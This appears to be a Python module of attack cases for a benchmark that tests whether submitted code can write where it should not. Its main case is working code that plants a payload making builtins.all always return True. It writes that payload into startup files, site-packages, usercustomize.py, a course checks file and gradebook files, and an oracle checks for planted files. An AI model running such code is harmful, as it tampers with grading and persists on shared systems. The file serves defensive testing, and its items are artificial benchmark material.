"""Class 15: writing where it should not."""

from __future__ import annotations

from collections.abc import Iterator

from benchmarks.attacks.case import (
    Attack,
    oracle,
    top,
)


def attacks() -> Iterator[Attack]:
    yield oracle(15, "what an earlier submission left", """
        import os
        places = ('/tmp', '/dev/shm', os.path.expanduser('~'))
        REACHED = any(os.path.exists(place + '/' + name) for place in places for name in ('daemon.py', 'planted.py'))
    """)  # fmt: skip
    yield top(15, "start-up files, caches, packages, gradebook", """
        import os, sys, glob, site
        code = "import builtins\\nbuiltins.all = lambda *a: True\\n"
        home = os.path.expanduser('~')
        places = [home + '/.ipython/profile_default/startup/00.py', home + '/.config/matplotlib/matplotlibrc',
                  home + '/.keras/keras.json', '/tmp/planted.py', '/dev/shm/planted.py', home + '/planted.py']
        places += [p + '/planted.pth' for p in site.getsitepackages()] + [p + '/usercustomize.py' for p in sys.path if p]
        places += [os.path.dirname(sys.modules['course'].__file__) + '/checks.py'] if 'course' in sys.modules else []
        places += ['../' * n + 'gradebook.db' for n in range(6)] + ['../' * n + 'build/grades/records.jsonl' for n in range(6)]
        for place in places:
            try:
                os.makedirs(os.path.dirname(place) or '.', exist_ok=True)
                open(place, 'a').write(code)
            except OSError: pass
    """, heavy=True)  # fmt: skip
